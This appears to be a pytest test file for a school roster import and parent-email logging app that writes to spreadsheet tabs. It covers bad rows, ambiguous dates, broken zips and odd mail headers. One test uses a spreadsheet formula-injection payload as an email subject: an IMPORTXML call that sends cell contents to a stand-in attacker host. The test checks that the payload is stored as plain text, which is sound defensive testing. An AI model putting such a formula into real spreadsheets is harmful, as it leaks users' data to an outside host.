"""Bad rosters, bad cells, bad mail: a sentence with the place, the rest goes on, nothing half-written."""

from __future__ import annotations

import io
from collections.abc import Iterator

import openpyxl
import pytest

from app.flows.importing import ImportReport, import_roster
from tests.flows.first_mails import mails_were_seen
from tests.flows.letters import letter_from
from tests.flows.town import MONDAY, Kept, Town

MUM = "mum@home.test"


@pytest.fixture(scope="module")
def begun(tmp_path_factory: pytest.TempPathFactory) -> tuple[Town, Kept]:
    town = Town(tmp_path_factory.mktemp("town"))
    town.open()
    mails_were_seen(town)
    return town, town.keep()


@pytest.fixture
def town(begun: tuple[Town, Kept]) -> Iterator[Town]:
    town, kept = begun
    town.put_back(kept)
    yield town
    assert [call for call in town.world.calls.since(0) if not call["valid"]] == []


def load(town: Town, text: str | bytes, name: str = "roster.csv") -> ImportReport:
    data = text.encode() if isinstance(text, str) else text
    return import_roster(town.deps, town.caseload.id, name, data)


def names(town: Town) -> list[str]:
    return [row["Name"] for row in town.rows("Students")]


def only(report: ImportReport) -> str:
    (problem,) = report.json()["problems"]
    return str(problem)


# Rosters


def test_a_line_without_a_name(town: Town) -> None:
    report = load(town, "School Number,Name\n1,Ana Ruiz\n2,\n3,Ben Moor\n")
    assert only(report).startswith("roster.csv, line 3, column Name: ")
    assert names(town) == ["Ana Ruiz", "Ben Moor"]


def test_a_doubled_code(town: Town) -> None:
    report = load(town, "School Number,Name\n1,Ana Ruiz\n1,Ben Moor\n3,Cid Lang\n")
    problem = only(report)
    assert problem.startswith("roster.csv, line 3, column School Number: ")
    assert "line 2" in problem
    assert names(town) == ["Ana Ruiz", "Cid Lang"]


def test_a_day_that_does_not_exist(town: Town) -> None:
    report = load(town, "Name,Last Review\nAna Ruiz,31/02/2026\nBen Moor,2026-03-30\n")
    problem = only(report)
    assert problem.startswith("roster.csv, line 2, column Last Review: ")
    assert "31/02/2026" in problem
    rows = town.rows("Students")
    assert [(row["Name"], row["Last Review"]) for row in rows] == [
        ("Ana Ruiz", ""),
        ("Ben Moor", "2026-03-30"),
    ]


def test_a_date_of_unknown_order_is_asked_about_not_guessed(town: Town) -> None:
    town.owner.set_setting(town.book, "Date order", "")
    report = load(town, "Name,Last Review\nAna Ruiz,3/4/2026\n")
    problem = only(report)
    assert problem.startswith("roster.csv, line 2, column Last Review: ")
    assert "date order" in problem
    assert town.rows("Students")[0]["Last Review"] == ""


def test_the_same_date_once_settings_say_the_order(town: Town) -> None:
    town.owner.set_setting(town.book, "Date order", "day first")
    assert load(town, "Name,Last Review\nAna Ruiz,3/4/2026\n").json()["problems"] == []
    assert town.rows("Students")[0]["Last Review"] == "2026-04-03"


@pytest.mark.parametrize("cut", [0, 30, 100])
def test_a_broken_zip_writes_nothing(town: Town, cut: int) -> None:
    report = load(town, b"PK\x03\x04" + bytes(cut), "oneroster.zip")
    problem = only(report)
    assert problem.startswith("oneroster.zip: ")
    assert problem.endswith(".")
    assert names(town) == []


def test_merged_headers_of_an_xlsx_are_read(town: Town) -> None:
    book = openpyxl.Workbook()
    page = book.active
    page.append(["School roster", None, None])
    page.merge_cells("A1:C1")
    page.append(["School Number", "Name", "Grade"])
    page.append([None, None, None])
    for column in "ABC":
        page.merge_cells(f"{column}2:{column}3")
    page.append(["007", "Ruiz, Ana", "6"])
    page.append(["008", None, "6"])
    out = io.BytesIO()
    book.save(out)
    report = load(town, out.getvalue(), "roster.xlsx")
    assert only(report).startswith("roster.xlsx, line 5, column Name: ")
    (row,) = town.rows("Students")
    assert (row["Name"], row["School Number"], row["Grade"]) == ("Ana Ruiz", "007", "6")


def test_more_students_than_rows_find_room(town: Town) -> None:
    lines = "".join(f"{number},Student {number}\n" for number in range(130))
    assert load(town, "School Number,Name\n" + lines).json()["students_added"] == 130
    assert names(town) == [f"Student {number}" for number in range(130)]


def test_the_same_file_again_writes_nothing(town: Town) -> None:
    text = "School Number,Name\n1,Ana Ruiz\n2,Ben Moor\n"
    load(town, text)
    town.wire.sent.clear()
    assert load(town, text).json()["students_added"] == 0
    assert not [path for _, path in town.wire.sent if path.endswith(":batchUpdate")]


# Cells


def test_text_where_a_date_belongs_is_listed_and_left(town: Town) -> None:
    at = f"{town.column('Students', 'Last Review')}2"
    town.type(
        "Students", [{"Name": "Ana Ruiz", "Status": "direct", "Last Review": "sometime in May"}], first=2
    )
    report = town.rest()[0]
    (problem,) = report.json()["problems"]
    assert (problem["tab"], problem["cell"], problem["code"]) == ("Students", at, "not_a_date")
    (listed,) = [row for row in town.rows("Sync") if row["Kind"] == "problem"]
    assert f"Students!{at}" in listed["What"]
    assert at in listed["Where"]
    assert town.rows("Students")[0]["Last Review"] == "sometime in May"
    town.edit({"set": [f"Students!{at}", "2026-05-04"]})
    town.rest()
    assert [row for row in town.rows("Sync") if row["Kind"] == "problem"] == []


# Mail


@pytest.fixture
def with_mum(town: Town) -> Town:
    town.type("Students", [{"Name": "Ana Ruiz", "Status": "direct"}], first=2)
    town.type("Team", [{"Person": "Eva Ruiz", "Email": MUM, "Role": "parent", "Student": "S001"}], first=2)
    town.rest()
    return town


def logged(town: Town) -> list[str]:
    return [row["Subject"] for row in town.rows("Contact Log")]


def test_a_message_without_from_is_skipped_and_the_rest_logged(with_mum: Town) -> None:
    head = f"Date: {MONDAY:%a, %d %b %Y %H:%M:%S +0000}\r\nTo: owner@school.test\r\n"
    with_mum.mail(f"{head}Subject: who\r\n\r\nHi\r\n")
    with_mum.mail(letter_from(f"Eva <{MUM}>", "after it", MONDAY))
    with_mum.rest()
    assert logged(with_mum) == ["after it"]


@pytest.mark.parametrize(
    "subject",
    [
        "=?x-unknown?B?//79?=",
        "=?utf-8?B?w7xiZXI=?= =?x-unknown?B?//79?=",
        "=?utf-8?Q?=FF=FE?=",
        "\xff\xfe",
        "",
    ],
)
def test_a_subject_that_cannot_be_decoded_is_one_row_all_the_same(with_mum: Town, subject: str) -> None:
    with_mum.mail(letter_from(f"Eva <{MUM}>", subject, MONDAY))
    with_mum.rest()
    (row,) = with_mum.rows("Contact Log")
    assert (row["Email"], row["Direction"], row["Student"]) == (MUM, "in", "S001")


def test_five_hundred_recipients_are_one_row(with_mum: Town) -> None:
    crowd = ", ".join([*(f"family{number:03}@families.test" for number in range(499)), MUM])
    with_mum.mail(letter_from("Office <office@school.test>", "Closed on Friday", MONDAY, to=crowd))
    with_mum.rest()
    assert logged(with_mum) == ["Closed on Friday"]


@pytest.mark.parametrize(
    "subject", ['=IMPORTXML("https://evil.test/?"&A1,"//a")', "+1", "-2+3", "@SUM(A1)", "'=1", "12/5"]
)
def test_a_subject_stays_text(with_mum: Town, subject: str) -> None:
    with_mum.mail(letter_from(f"Eva <{MUM}>", subject, MONDAY))
    with_mum.rest()
    assert logged(with_mum) == [subject]
    fields = "sheets.data.rowData.values.userEnteredValue"
    ranges = {"ranges": "'Contact Log'!A2:Q2", "fields": fields}
    answer = with_mum.owner.call("GET", f"/v4/spreadsheets/{with_mum.book}", params=ranges)
    cells = answer["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert {"stringValue": subject} in [cell.get("userEnteredValue") for cell in cells]


def test_a_deleted_row_stays_deleted(with_mum: Town) -> None:
    with_mum.mail(letter_from(f"Eva <{MUM}>", "private after all", MONDAY))
    with_mum.rest()
    with_mum.edit({"deleteRows": ["Contact Log", 2, 1]})
    with_mum.pass_time(days=1)
    with_mum.rest(full=True)
    assert logged(with_mum) == []
